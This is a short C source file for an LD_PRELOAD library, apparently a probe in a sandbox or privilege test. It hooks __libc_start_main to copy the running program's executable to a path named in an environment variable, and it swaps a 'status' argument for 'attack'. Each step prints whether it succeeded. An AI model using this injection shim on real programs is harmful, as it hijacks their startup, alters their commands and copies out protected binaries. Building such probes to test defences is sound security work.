// A library for LD_PRELOAD: has the program start with "attack" in the place of "status", and copies the program's file
// from inside to the path in PRELOAD_COPY.
#define _GNU_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

typedef int (*program)(int, char **, char **);
typedef int (*start)(program, int, char **, void *, void *, void *, void *);

static void copy(const char *to)
{
    int from = open("/proc/self/exe", O_RDONLY);
    if (from < 0) {
        dprintf(1, "attempt preload-copy: %s\n", errno == EPERM ? "EPERM" : "refused");
        return;
    }
    int into = open(to, O_CREAT | O_TRUNC | O_WRONLY, 0755);
    char bytes[65536];
    ssize_t length;
    while ((length = read(from, bytes, sizeof bytes)) > 0)
        if (write(into, bytes, length) != length)
            break;
    dprintf(1, "attempt preload-copy: ok\n");
}

int __libc_start_main(program main, int argc, char **argv, void *init, void *fini, void *rtld, void *end)
{
    start real = (start)dlsym(RTLD_NEXT, "__libc_start_main");
    if (getenv("PRELOAD_COPY"))
        copy(getenv("PRELOAD_COPY"));
    if (argc > 1 && !strcmp(argv[1], "status"))
        argv[1] = "attack";
    return real(main, argc, argv, init, fini, rtld, end);
}
